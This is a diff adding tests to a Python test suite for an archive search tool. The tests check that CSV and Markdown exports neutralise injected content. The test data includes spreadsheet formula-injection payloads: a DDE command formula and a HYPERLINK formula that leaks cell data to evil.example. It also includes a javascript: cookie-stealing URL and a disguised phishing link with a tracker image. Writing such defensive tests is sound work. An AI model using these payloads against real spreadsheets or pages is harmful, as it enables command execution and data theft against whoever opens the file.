@@ -2,6 +2,7 @@
 archives: the seeds ingested with the hash embedder for mechanics, the real model where the
 meaning of "similar" matters."""
 import csv
+import io
 import re
 import shutil
 from pathlib import Path
@@ -261,3 +262,40 @@ def test_earlier_papers_leave_out_exempt_ones_as_search_does(tmp_path, hash_env)
     assert "public.txt" in sources and "exempt.txt" not in sources
     asked = explore.earlier(archive, later, k=10, min_cosine=-1.0, include_exempt=True)
     assert "exempt.txt" in {Path(h.source).name for h in asked}
+
+
+# -- exports cannot be turned against whoever opens them ----------------------------------
+FORMULAS = ("=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3",
+            "@SUM(A1:A9)", "\t=1+1", "\r=1+1")
+
+
+def test_csv_export_neutralises_formulas_in_every_column():
+    """A spreadsheet runs a cell that starts with = + - @ (or tab, carriage return): each such
+    cell is written with a leading quote, so it is shown as text (the OWASP rule)."""
+    hits = [_hit(title=f, committee=f, council=f, text=f, source=f, heading=f, section=None, doc_type=f,
+                 url=f, chunk_id=f) for f in FORMULAS]
+    rows = list(csv.DictReader(io.StringIO(explore.to_csv(hits), newline="")))
+    assert len(rows) == len(FORMULAS)
+    for row, f in zip(rows, FORMULAS):
+        for column in ("title", "committee", "text", "source", "doc_type", "url", "chunk_id"):
+            assert row[column] == "'" + f, (column, row[column])
+        assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
+    plain = list(csv.DictReader(io.StringIO(explore.to_csv([_hit(title="Budget 2024-25", text="A -5% change")]))))
+    assert plain[0]["title"] == "Budget 2024-25" and plain[0]["text"] == "A -5% change"  # only a leading sign counts
+
+
+def test_markdown_export_links_only_web_addresses():
+    evil = _hit(url="javascript:alert(document.cookie)")
+    good = _hit(rank=2, url="https://example.org/paper?id=1")
+    md = explore.to_markdown([evil, good])
+    assert "javascript" not in md.replace(r"javascript:alert\(document\.cookie\)", "")  # never bare
+    assert "<javascript" not in md and "](javascript" not in md
+    assert "<https://example.org/paper?id=1>" in md
+
+
+def test_markdown_export_metadata_cannot_make_a_link_or_image():
+    title = "[sign in again](https://evil.example) ![](https://tracker.example/x.png)"
+    md = explore.to_markdown([_hit(title=title, committee="![x](https://tracker.example/y.png)\n# Heading")])
+    assert "[sign in again](" not in md and "![](" not in md and "![x](" not in md
+    assert re.search(r"(?<!\\)[\[\]!]", md.replace("**", "")) is None  # every bracket and ! escaped
+    assert "\n# Heading" not in md  # a line break in metadata cannot start a heading
